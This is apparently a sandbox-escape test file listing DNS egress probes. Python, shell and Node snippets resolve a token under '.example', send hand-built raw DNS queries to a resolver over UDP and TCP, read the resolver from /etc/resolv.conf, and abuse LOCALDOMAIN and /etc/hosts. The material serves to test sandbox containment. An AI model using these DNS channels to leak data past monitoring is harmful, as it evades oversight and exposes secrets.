import { node, python, sh } from '../escape/attack.ts';

const QUERY = String.raw`
def query(kind=1):
    name = b''.join(bytes([len(x)]) + x for x in (T.encode(), b'example')) + b'\0'
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('>HH', kind, 1)
`;

export const NAMES = [
  python('looks a name up', 'contacted', `socket.getaddrinfo(T + '.example', 80)`, { slice: true }),
  python('looks a name up the old way', 'contacted', `socket.gethostbyname(T + '.example')`),
  python('looks a name up by another family', 'contacted', `socket.getaddrinfo(T + '.example', 80, socket.AF_INET6)`),
  python(
    'asks the resolver itself',
    'contacted',
    `${QUERY}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(query(), (B['dns'], 53))`,
  ),
  python(
    'asks the resolver itself for text',
    'contacted',
    `${QUERY}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(query(16), (B['dns'], 53))`,
  ),
  python(
    'asks the resolver by TCP',
    'contacted',
    `${QUERY}
s = socket.create_connection((B['dns_tcp'], 53), 1); s.send(struct.pack('>H', len(query())) + query())`,
  ),
  python(
    'asks the resolver by its number in another form',
    'contacted',
    `${QUERY}
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(query(), ('::ffff:' + B['dns'], 53))`,
  ),
  python(
    'asks the resolver of the configuration file',
    'contacted',
    `${QUERY}
server = next(line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver'))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(query(), (server, 53))`,
  ),
  python(
    'names a name in a search list',
    'contacted',
    `os.environ['LOCALDOMAIN'] = T + '.example'; socket.gethostbyname('www')`,
  ),
  python(
    "learns a name of the host's own",
    'said',
    `
name = [line.split()[1] for line in open('/etc/hosts') if line.startswith('127')][-1]
name.startswith('host-of-') and socket.gethostbyname(name) and did()`,
  ),
  sh('looks a name up by getent', 'contacted', 'getent hosts "$T.example"'),
  node('looks a name up by Node', 'contacted', `await dns.promises.lookup(T + '.example').catch(() => {})`),
  node(
    'asks the resolver by Node',
    'contacted',
    `const r = new dns.promises.Resolver({ timeout: 300, tries: 1 }); r.setServers([B.dns]); await r.resolve4(T + '.example').catch(() => {})`,
  ),
];
